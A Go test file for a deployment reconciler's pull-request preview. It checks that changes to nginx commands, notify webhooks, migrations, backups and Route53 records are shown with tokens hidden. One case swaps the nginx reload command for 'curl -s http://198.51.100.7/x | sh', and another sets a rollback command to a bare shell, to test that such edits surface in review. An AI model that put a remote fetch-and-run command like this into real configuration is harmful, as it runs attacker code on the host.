package host

import (
	"context"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/developer-mesh/reconciler/reconciler"
)

// previewBase is an env file with every block the preview cases edit.
const previewBase = `environment: pv14
nginx:
  confDir: /etc/nginx/conf.d
  test: nginx -t
  reload: nginx -s reload
network: pv14
keepImages: 3
backup:
  keep: 5
notify:
  - url: https://hooks.example.com/services/T0/B0/OLDTOKEN
    format: slack
    events: [deploy.failed]
route53:
  healthChecks:
    failureThreshold: 3
migrations:
  image: example.com/api:v1
  command: ["/app/migrate", "up"]
  timeout: 5m
  rollback:
    command: ["/app/migrate", "down"]
  dryRun:
    command: ["/app/migrate", "up", "--dry-run"]
  snapshot:
    rdsInstance: db1
services:
  api:
    image: example.com/api:v1
    containerPort: 8080
    listen: "127.0.0.1:18080"
    serverName: api.example.com
    deploy:
      bake: 1m
    smoke:
      - path: /health
    route53:
      healthCheckId: abcdef12-3456-7890-abcd-ef1234567890
`

// TestPreviewShowsHostSettings: a pull request that changes only what
// runs on the host (nginx's commands, a notify receiver, a smoke check, a
// migrations or backup setting) is not "in sync": diff --base names the
// field, shows no token, and plans no container restart.
func TestPreviewShowsHostSettings(t *testing.T) {
	cases := []struct{ name, old, new, want string }{
		{"nginx.reload", "reload: nginx -s reload", "reload: curl -s http://198.51.100.7/x | sh", `nginx.reload: "nginx -s reload" → "curl -s http://198.51.100.7/x | sh"`},
		{"nginx.test", "test: nginx -t", "test: \"true\"", `nginx.test: "nginx -t" → "true"`},
		{"nginx.confDir", "confDir: /etc/nginx/conf.d", "confDir: /etc/nginx/sites", `nginx.confDir:`},
		{"notify url", "OLDTOKEN", "NEWTOKEN", `notify[0].url: "https://hooks.example.com/…" (hidden, `},
		{"notify events", "events: [deploy.failed]", "events: [deploy.failed, deploy.succeeded]", `notify[0].events: ["deploy.failed"] → ["deploy.failed", "deploy.succeeded"]`},
		{"network", "network: pv14", "network: other", `network: "pv14" → "other"`},
		{"keepImages", "keepImages: 3", "keepImages: 9", `keepImages: 3 → 9`},
		{"backup", "keep: 5", "keep: 6", `backup.keep: 5 → 6`},
		{"migrations timeout", "timeout: 5m", "timeout: 6m", `migrations.timeout: "5m0s" → "6m0s"`},
		{"migrations rollback", `["/app/migrate", "down"]`, `["/bin/sh", "-c", "x"]`, `migrations.rollback.command: ["/app/migrate", "down"] → ["/bin/sh", "-c", "x"]`},
		{"migrations dryRun", `"--dry-run"]`, `"--check"]`, `migrations.dryRun.command:`},
		{"snapshot", "rdsInstance: db1", "rdsInstance: db2", `migrations.snapshot.rdsInstance: "db1" → "db2"`},
		{"deploy", "bake: 1m", "bake: 2m", `services.api.deploy.bake: "1m0s" → "2m0s"`},
		{"smoke", "path: /health", "path: /other", `services.api.smoke[0].path: "/health" → "/other"`},
		{"route53 service", "abcdef12-3456", "bbcdef12-3456", `services.api.route53.healthCheckId:`},
		{"route53 sites", "failureThreshold: 3", "failureThreshold: 4", `route53.healthChecks.failureThreshold: 3 → 4`},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			head := strings.Replace(previewBase, tc.old, tc.new, 1)
			if head == previewBase {
				t.Fatalf("%q not in the base", tc.old)
			}
			base := Source{FS: fstest.MapFS{"envs/pv14.yaml": {Data: []byte(previewBase)}}, Hash: "1111111111111111111111111111111111111111"}
			hd := Source{FS: fstest.MapFS{"envs/pv14.yaml": {Data: []byte(head)}}, Hash: "2222222222222222222222222222222222222222"}
			p, err := Preview(context.Background(), hd, base, "pv14")
			if err != nil {
				t.Fatal(err)
			}
			out := p.String()
			if p.Empty() || !strings.Contains(out, tc.want) {
				t.Fatalf("preview does not show %q:\n%s", tc.want, out)
			}
			if strings.Contains(out, "TOKEN") {
				t.Fatalf("preview shows a token:\n%s", out)
			}
			if tc.name == "nginx.confDir" || tc.name == "network" {
				return // these move files or containers
			}
			for _, c := range p.Changes {
				for _, s := range c.Steps {
					if s.Action != reconciler.ActSettings {
						t.Errorf("changing %s plans %s", tc.name, s)
					}
				}
			}
		})
	}
	// The same file on both sides is in sync.
	src := Source{FS: fstest.MapFS{"envs/pv14.yaml": {Data: []byte(previewBase)}}, Hash: "1111111111111111111111111111111111111111"}
	p, err := Preview(context.Background(), src, src, "pv14")
	if err != nil {
		t.Fatal(err)
	}
	if !p.Empty() {
		t.Fatalf("same file, plan:\n%s", p)
	}
}

// TestPreviewShowsBaseFileChange: a change of the base file an env extends
// is a change of the env, with the env file itself unchanged.
func TestPreviewShowsBaseFileChange(t *testing.T) {
	child := "extends: pv18-base.yaml\nenvironment: pv18\n"
	base := "services:\n  api:\n    image: example.com/api:v1\n    containerPort: 8080\n    listen: \"80\"\n    env: {MODE: a}\n"
	old := Source{FS: fstest.MapFS{"envs/pv18.yaml": {Data: []byte(child)}, "envs/pv18-base.yaml": {Data: []byte(base)}}, Hash: "1111111111111111111111111111111111111111"}
	for _, tc := range []struct{ name, from, to, want string }{
		{"image", "api:v1", "api:v2", "example.com/api:v1 → example.com/api:v2"},
		{"env", "MODE: a", "MODE: b", "env MODE"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			nb := strings.Replace(base, tc.from, tc.to, 1)
			head := Source{FS: fstest.MapFS{"envs/pv18.yaml": {Data: []byte(child)}, "envs/pv18-base.yaml": {Data: []byte(nb)}}, Hash: "2222222222222222222222222222222222222222"}
			p, err := Preview(context.Background(), head, old, "pv18")
			if err != nil {
				t.Fatal(err)
			}
			if out := p.String(); p.Empty() || !strings.Contains(out, tc.want) {
				t.Fatalf("preview of a base file change does not show %q:\n%s", tc.want, out)
			}
		})
	}
	p, err := Preview(context.Background(), old, old, "pv18")
	if err != nil {
		t.Fatal(err)
	}
	if !p.Empty() {
		t.Fatalf("same files, plan:\n%s", p)
	}
}

// TestPreviewRecords: diff --base shows a pull request's record set
// changes (a changed value, a record set no longer declared) against the
// record sets an apply of the base leaves, site checks included, and the
// same file on both sides is in sync.
func TestPreviewRecords(t *testing.T) {
	const base = `environment: pv15
aws: {region: us-east-1}
route53:
  healthChecks: {}
  records:
    - hostedZoneId: Z1
      name: www.example.com
      type: A
      values: ["203.0.113.10"]
      routing: latency
      healthCheck: {service: web}
    - hostedZoneId: Z1
      name: old.example.com
      type: A
      values: ["203.0.113.10"]
      routing: latency
services:
  web:
    image: example.com/web:v1
    containerPort: 8080
    listen: "80"
    serverName: www.example.com
`
	head := strings.Replace(strings.Replace(base, `values: ["203.0.113.10"]`, `values: ["203.0.113.20"]`, 1),
		"    - hostedZoneId: Z1\n      name: old.example.com\n      type: A\n      values: [\"203.0.113.10\"]\n      routing: latency\n", "", 1)
	bs := Source{FS: fstest.MapFS{"envs/pv15.yaml": {Data: []byte(base)}}, Hash: "1111111111111111111111111111111111111111"}
	hs := Source{FS: fstest.MapFS{"envs/pv15.yaml": {Data: []byte(head)}}, Hash: "2222222222222222222222222222222222222222"}
	p, err := Preview(context.Background(), hs, bs, "pv15")
	if err != nil {
		t.Fatal(err)
	}
	out := p.String()
	for _, want := range []string{"~ route53 records: change 1 record set(s), delete 1 record set(s)",
		"~ www.example.com. A pv15 (zone Z1): values 203.0.113.10 → 203.0.113.20",
		"- old.example.com. A pv15 (zone Z1): no longer declared, and reconciler wrote it"} {
		if !strings.Contains(out, want) {
			t.Fatalf("preview lacks %q:\n%s", want, out)
		}
	}
	if p, err := Preview(context.Background(), bs, bs, "pv15"); err != nil || !p.Empty() {
		t.Fatalf("same file: %v\n%s", err, p)
	}
	fresh := Source{FS: fstest.MapFS{}, Hash: "0000000000000000000000000000000000000000"}
	if p, err := Preview(context.Background(), hs, fresh, "pv15"); err != nil || !strings.Contains(p.String(), "+ www.example.com. A pv15 (zone Z1): latency us-east-1, ttl 60, 203.0.113.20, health check: the site check of web (the check is created after the switch)") {
		t.Fatalf("new env: %v\n%s", err, p)
	}
}
